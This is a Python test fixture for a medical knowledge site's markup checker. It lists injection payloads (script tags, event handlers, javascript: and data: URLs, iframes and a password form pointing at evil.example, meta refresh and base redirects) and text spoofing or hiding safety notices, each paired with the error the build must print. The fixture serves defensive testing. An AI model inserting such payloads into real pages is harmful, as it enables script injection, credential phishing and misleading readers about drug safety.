"""Hostile markup for a page: each payload with what the check must say of it, shared by
the rule's unit tables (unit/test_hostile_markup.py) and the builds that refuse it (site/test_hostile_input.py)."""

from __future__ import annotations

# (payload appended to the section page, the message the build must print: file, line, what)
PAYLOADS: dict[str, tuple[str, str]] = {
    "script element": ("<script>alert(1)</script>", "<script> is not allowed"),
    "script in mixed case": (
        "Text <ScRiPt src=https://evil.example/x.js></ScRiPt>",
        "<script> is not allowed",
    ),
    "img onerror": ('<img src="x.png" onerror="alert(1)" alt="x">', "event-handler attribute onerror="),
    "svg onload": ("<svg onload=alert(1)></svg>", "<svg> is not allowed"),
    "details ontoggle": (
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "event-handler attribute ontoggle=",
    ),
    "iframe from another host": (
        '<iframe src="https://evil.example/embed"></iframe>',
        "embed videos only from https://www.youtube-nocookie.com",
    ),
    "iframe over http": ('<iframe src="http://player.vimeo.com/video/1"></iframe>', "<iframe src="),
    "iframe srcdoc": (
        '<iframe src="https://player.vimeo.com/video/1" srcdoc="<script>alert(1)</script>"></iframe>',
        "srcdoc= on <iframe> is not allowed",
    ),
    "object": ('<object data="evil.swf"></object>', "<object> is not allowed"),
    "embed": ('<embed src="evil.swf">', "<embed> is not allowed"),
    "javascript: link in HTML": ('<a href="javascript:alert(1)">x</a>', "a javascript: URL is not allowed"),
    "entity-encoded javascript: link": (
        '<a href="jav&#x09;ascript&colon;alert(1)">x</a>',
        "a javascript: URL is not allowed",
    ),
    "javascript: Markdown link": ("[click](javascript:alert(1))", "Markdown link or image to 'javascript:"),
    "data: Markdown image": (
        "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
        "a data: URL is not allowed",
    ),
    "javascript: link definition": ("[evil]: javascript:alert(1)", "Markdown link definition"),
    "style element": ("<style>.medkb-banner--pending{display:none}</style>", "<style> is not allowed"),
    "style attribute hiding text": (
        '<p style="display:none">The drug is unsafe.</p>',
        "the style= attribute",
    ),
    "form": ('<form action="https://evil.example/"><input name="pw"></form>', "<form> is not allowed"),
    "meta refresh": (
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        "<meta http-equiv> is not allowed",
    ),
    "base element": ('<base href="https://evil.example/">', "<base> is not allowed"),
    "attribute list event handler": (
        '[x](https://example.org){: onclick="alert(1)" }',
        "event-handler attribute onclick= in an attribute list",
    ),
    "spoofed review banner": (
        '<div class="medkb-banner medkb-banner--educational">Approved by the board</div>',
        'class "medkb-banner medkb-banner--educational"',
    ),
    "layout-breaking end tags": ("</div></div></article>", "closes an element the page never opened"),
    "unclosed comment hiding the notices": ("Text. <!-- the rest is hidden", "never closed"),
    "CDATA hiding markup": ("<![CDATA[ > <img src=x onerror=alert(1)> ]]>", "'<![CDATA' is not allowed"),
}
